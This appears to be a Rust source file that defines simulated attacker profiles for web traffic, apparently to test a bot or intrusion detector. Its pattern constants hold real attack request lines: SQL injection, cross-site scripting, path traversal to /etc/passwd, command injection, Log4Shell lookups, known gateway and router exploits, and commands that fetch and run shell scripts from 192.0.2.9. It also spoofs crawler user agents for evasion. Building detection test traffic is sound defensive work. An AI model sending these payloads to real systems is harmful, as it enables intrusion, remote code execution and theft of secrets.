//! Attackers of every kind, told apart by what they ask for, how fast, and what they hide behind.

use crate::good::BROWSER;
use crate::grammar::{Finds, From, Kind, Order};

const ATTACKER: Kind = Kind {
    name: "",
    hostile: true,
    held: false,
    clients: 3,
    from: From::Apart,
    agent: BROWSER,
    within: 24,
    pace: (50, 400),
    length: (40, 60),
    order: Order::Straight,
    moves: "",
    finds: Finds::Stop,
};
/// One request in ten minutes.
const SLOW: (u64, u64) = (540_000, 660_000);
/// Another browser with every request.
const CHANGING: &str = "~Mozilla/5.0 ({Windows NT 10.0|X11; Linux x86_64|Macintosh}; rv:1{28|31|36|40}.0) {Gecko/20100101 Firefox/1{28|31|36|40}.0|AppleWebKit/537.36 Chrome/1{18|22|31|40}.0 Safari/537.36}";

pub fn kinds() -> Vec<Kind> {
    [scanners(), hunters(), injectors(), single(), guessers(), floods()].into_iter().flatten().collect()
}

fn scanners() -> Vec<Kind> {
    vec![
        Kind { name: "word list, fast", moves: WORD_LIST, ..ATTACKER },
        Kind { name: "word list, browser changing", agent: CHANGING, moves: WORD_LIST, ..ATTACKER },
        Kind { name: "word list, one in ten minutes", pace: SLOW, length: (60, 60), moves: WORD_LIST, ..ATTACKER },
        Kind { name: "word list, page of the site as referer", moves: WORD_LIST_REFERRED, held: true, ..ATTACKER },
        Kind { name: "word list, catch-all answers", moves: SENSITIVE_FOUND, ..ATTACKER },
        Kind {
            name: "word list, addresses of a /64",
            from: From::Rotating,
            moves: WORD_LIST,
            length: (80, 80),
            pace: (200, 900),
            ..ATTACKER
        },
        Kind { name: "web scanner", moves: SCANNER, ..ATTACKER },
        Kind { name: "web scanner, one in ten minutes", pace: SLOW, moves: SCANNER, held: true, ..ATTACKER },
        Kind { name: "template scanner", moves: TEMPLATES, ..ATTACKER },
        Kind { name: "wordpress scanner", moves: WORDPRESS, ..ATTACKER },
        Kind {
            name: "mass scanner that says so",
            agent: "Mozilla/5.0 zgrab/0.x",
            moves: MASS,
            length: (6, 10),
            finds: Finds::Tell,
            held: true,
            ..ATTACKER
        },
        Kind { name: "open proxy searched", moves: PROXY, length: (20, 30), ..ATTACKER },
    ]
}

fn hunters() -> Vec<Kind> {
    vec![
        Kind { name: "web shells sought", moves: SHELLS, length: (20, 60), ..ATTACKER },
        Kind { name: "web shells sought, slowly", pace: SLOW, moves: SHELLS, length: (30, 40), held: true, ..ATTACKER },
        Kind { name: "backups sought", moves: BACKUPS, ..ATTACKER },
        Kind { name: "secrets sought", moves: SECRETS, length: (12, 30), ..ATTACKER },
        Kind {
            name: "crawler that lies",
            finds: Finds::Tell,
            agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            moves: LYING,
            length: (30, 60),
            ..ATTACKER
        },
        Kind {
            name: "secrets sought under a crawler's name",
            agent: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            moves: SECRETS,
            length: (12, 30),
            held: true,
            ..ATTACKER
        },
    ]
}

fn injectors() -> Vec<Kind> {
    vec![
        Kind { name: "injection, one parameter", moves: INJECTION, ..ATTACKER },
        Kind {
            name: "injection, browser changing",
            agent: CHANGING,
            moves: INJECTION,
            pace: (2_000, 9_000),
            ..ATTACKER
        },
        Kind { name: "scripts in parameters", moves: SCRIPTS, held: true, ..ATTACKER },
        Kind { name: "files read by traversal", moves: TRAVERSAL, ..ATTACKER },
        Kind { name: "commands in parameters", moves: COMMANDS, ..ATTACKER },
        Kind { name: "published flaws, sprayed", moves: FLAWS, pace: (800, 4_000), length: (15, 30), ..ATTACKER },
        Kind {
            name: "published flaws, in ten minutes each",
            moves: FLAWS,
            pace: SLOW,
            length: (15, 30),
            held: true,
            ..ATTACKER
        },
    ]
}

/// One request and gone.
fn single() -> Vec<Kind> {
    let lone = |name, held, moves| Kind {
        name,
        held,
        moves,
        clients: 4,
        length: (1, 1),
        finds: Finds::Tell,
        order: Order::Mixed,
        ..ATTACKER
    };
    vec![
        lone("lone exploit of a gateway", false, GATEWAYS),
        lone("lone exploit of a server", false, SERVERS),
        lone("lone exploit of a router", true, ROUTERS),
        lone("lone exploit of an application", false, APPLICATIONS),
        lone("lone exploit of java", true, JAVA),
    ]
}

fn guessers() -> Vec<Kind> {
    let wordpress = "POST /wp-login.php 200";
    vec![
        Kind { name: "passwords, fast", moves: wordpress, ..ATTACKER },
        Kind {
            name: "passwords, one in a minute",
            moves: wordpress,
            pace: (55_000, 65_000),
            length: (60, 60),
            ..ATTACKER
        },
        Kind { name: "passwords through xmlrpc", moves: "POST /xmlrpc.php 200", ..ATTACKER },
        Kind {
            name: "passwords, basic authentication",
            moves: "GET /private/ 401 - {admin|root|test}",
            agent: "Mozilla/4.0 (Hydra)",
            held: true,
            ..ATTACKER
        },
        Kind {
            name: "passwords, application's login",
            moves: "POST /account/login 401",
            pace: (500, 2_000),
            ..ATTACKER
        },
        Kind {
            name: "passwords, addresses of a /64",
            from: From::Rotating,
            moves: wordpress,
            pace: (300, 2_000),
            length: (80, 80),
            ..ATTACKER
        },
        Kind {
            name: "passwords, one network",
            from: From::Together,
            clients: 12,
            moves: wordpress,
            pace: (60_000, 120_000),
            length: (40, 40),
            held: true,
            ..ATTACKER
        },
        Kind {
            name: "stolen passwords, many addresses",
            clients: 200,
            within: 1,
            moves: "POST /account/login 401",
            length: (1, 2),
            pace: (1_000, 3_000),
            finds: Finds::Target,
            ..ATTACKER
        },
    ]
}

fn floods() -> Vec<Kind> {
    vec![
        Kind {
            name: "unique queries",
            moves: "GET /search?q={x}{x}&page={i} 200",
            pace: (5, 15),
            length: (600, 600),
            clients: 1,
            ..ATTACKER
        },
        Kind {
            name: "one page again and again",
            moves: "GET /?{x} 200",
            pace: (3, 10),
            length: (600, 600),
            clients: 1,
            held: true,
            ..ATTACKER
        },
    ]
}

const WORD_LIST: &str = "GET /{@}{#} 404
GET /{@}/{@}{#}/ 404
GET /{@}-{#}.php 404
GET /{@}{#}.bak 404
GET /{@}_{#} 403
GET /cgi-bin/{@}{#} 404";
const WORD_LIST_REFERRED: &str = "GET /{@}{#} 404 https://shop.example/
GET /{@}/{@}{#}/ 404 https://shop.example/
GET /{@}{#}.aspx 404 https://shop.example/";
const SENSITIVE_FOUND: &str = "GET /.env 200
GET /.git/config 200
GET /wp-config.php.bak 200
GET /.aws/credentials 200
GET /backup.sql 200
GET /.svn/entries 200
GET /.ssh/id_rsa 200
GET /actuator/env 200
GET /config/database.yml 200
GET /.htpasswd 200
GET /id_rsa 200
GET /.kube/config 200";
const SCANNER: &str = "GET /{x}.cgi 404
GET /cgi-bin/test-cgi 404
GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir 404
GET /phpinfo.php 404
GET /admin/{@}{#}.asp 404
TRACE / 405
GET /index.php?page=../../../../etc/passwd 200
GET /{x}.jsp 404
OPTIONS / 200
GET /search?q=%22%3E%3Cscript%3Ealert({#})%3C/script%3E 200
GET /icons/README 404
GET /doc/{@}{#}/ 404
DEBUG /{x}.aspx 405
GET /.DS_Store 404";
const TEMPLATES: &str = "GET /.git/config 404
GET /actuator/heapdump 404
GET /server-status 403
GET /solr/admin/info/system?wt=json 404
GET /_ignition/health-check 404
GET /wp-json/wp/v2/users/ 404
GET /telescope/requests 404
GET /console/login/LoginForm.jsp 404
GET /api/v1/pods 404
GET /phpmyadmin/index.php 404
GET /?url=http://{x}.oast.fun/ 200
GET /.vscode/sftp.json 404
GET /jolokia/list 404
GET /druid/index.html 404
GET /{@}/{x} 404";
const WORDPRESS: &str = "GET /wp-content/plugins/{@}-{@}-{#}/readme.txt 404
GET /wp-content/themes/{@}{#}/style.css 404
GET /?author={1|2|3|4|5} 301
GET /wp-json/wp/v2/users?per_page=100 401
GET /wp-content/debug.log 404
GET /wp-config.php~ 404
GET /wp-content/plugins/{@}{#}/ 404
GET /blog/wp-includes/wlwmanifest.xml 404";
const MASS: &str = "GET / 200
GET /favicon.ico 404
GET /robots.txt 404
GET /login 404
GET /sitemap.xml 404";
const PROXY: &str = "CONNECT mail{#}.{@}.example:25 405
GET http://{@}{#}.example/azenv.php 404
CONNECT {@}.example:443 400
GET http://{@}.example/ip.php?{x} 404";
const SHELLS: &str = "GET /wp-content/uploads/{2024|2025}/{@}{#}.php 404
GET /{wso|alfa|c99|r57|b374k|shell|up|mini}{#}.php 404
GET /wp-includes/{@}{#}.php 404
GET /.well-known/{@}{#}.php 404
POST /{x}.php 404
GET /wp-admin/css/{@}{#}.php 404
GET /images/{x}.php?cmd=id 404
GET /{wso|alfa|c99|shell}.php 404";
const BACKUPS: &str = "HEAD /{backup|site|www|db|old|data}{#}.zip 404
HEAD /{backup|site|www|db|old|data}.tar.gz 404
HEAD /shop.example-{#}.sql 404
HEAD /{@}{#}.rar 404
HEAD /index.php.{bak|old|save|orig} 404
HEAD /{dump|database|mysql}{#}.sql.gz 404";
const SECRETS: &str = "GET /{api|app|dev|web|old}{#}/.env 404
GET /.env.{local|production|bak} 404
GET /.git/{config|HEAD|index} 404
GET /.aws/{config|credentials} 404
GET /{config|secrets|credentials}{#}.json 404
GET /.docker/config.json 404
GET /wp-config.php.{bak|old|save} 404";
const LYING: &str = "GET /product/{@}-{#} 200
GET /category/{@}?page={#} 200
GET /news/{#} 200";
const INJECTION: &str = "GET /item?id={#}%27 500
GET /item?id={#}%20AND%20{#}%3D{#} 200
GET /item?id={#}%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20- 200
GET /item?id={#}%20AND%20SLEEP%285%29 200
GET /item?id={#}%3BSELECT%20PG_SLEEP%285%29-- 200
GET /item?id=-{#}%20OR%20{#}%3D{#} 200
GET /item?id={#}%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x{x}%29%29 500";
const SCRIPTS: &str = "GET /search?q=%3Cscript%3Ealert%28{#}%29%3C%2Fscript%3E 200
GET /search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%28{#}%29%3E 200
GET /search?q=javascript%3Aalert%28{#}%29 200
GET /search?q=%27-prompt%28{#}%29-%27 200
GET /search?q=%3Csvg%2Fonload%3Dconfirm%28{#}%29%3E 200";
const TRAVERSAL: &str = "GET /view?file=../../../../../../etc/passwd 200
GET /view?file=..%2f..%2f..%2f..%2fetc%2fshadow 403
GET /view?file=....//....//....//etc/passwd 200
GET /view?file=php://filter/convert.base64-encode/resource=index.php 200
GET /static/..%252f..%252f..%252fetc/passwd 404
GET /view?file=C:%5CWindows%5Cwin.ini 200
GET /view?file=/proc/self/environ 403";
const COMMANDS: &str = "GET /tool?host={#};id 200
GET /tool?host=%7Cwhoami 200
GET /tool?host=$(sleep%205) 200
GET /tool?host=%60id%60 200
GET /tool?host=;cat%20/etc/passwd 200
GET /tool?host=%26%26wget%20http://192.0.2.9/{x}.sh 200";
const FLAWS: &str = "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 404
POST /boaform/admin/formLogin 404
GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5 404
POST /mgmt/tm/util/bash 404
GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession 404
GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh 404
GET /solr/{@}/select?q=1&wt=velocity&v.template=custom 404
POST /_ignition/execute-solution 404
GET /seeyon/webmail.do?method=doDownloadAtt&filename=x 404
GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua 404
POST /goform/setUsbUnload 404
GET /geoserver/wfs?request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'id') 404
GET /wp-content/plugins/{@}-gallery/inc/download.php?file=/etc/passwd 404";
const GATEWAYS: &str = "GET /vpn/../vpns/cfg/smb.conf 404
GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession 404
POST /mgmt/tm/util/bash 404
GET /dana-na/../dana/html5acc/guacamole/../../../etc/hosts 404
GET /php/utils/x.php/PAN_help/a.css 404";
const SERVERS: &str = "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh 404
POST /wls-wsat/CoordinatorPortType 404
POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx 404
GET /autodiscover/autodiscover.json?@a.example/owa/?&Email=autodiscover/autodiscover.json%3F@a.example 404
POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input 404";
const ROUTERS: &str = "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/m.sh;sh+/tmp/m.sh 404
POST /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x) 404
GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.9/m 404
POST /GponForm/diag_Form?images/ 404
GET /cgi-bin/nas_sharing.cgi?user=mydlinkBRionyg&passwd=&cmd=15&system=aWQ= 404";
const APPLICATIONS: &str = "POST /setup/setupadministrator.action 404
POST /_ignition/execute-solution 404
GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5 404
POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 404
GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php 404
POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax 404";
const JAVA: &str = "GET /?x=$%7Bjndi:ldap://192.0.2.9/{x}%7D 200
GET /%24%7Bjndi:rmi://192.0.2.9/{x}%7D 404
GET /login?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x 200
POST /functionRouter 404
GET /index.action?redirect:%24%7B%23a%3d(new%20java.lang.ProcessBuilder('id')).start()%7D 404";
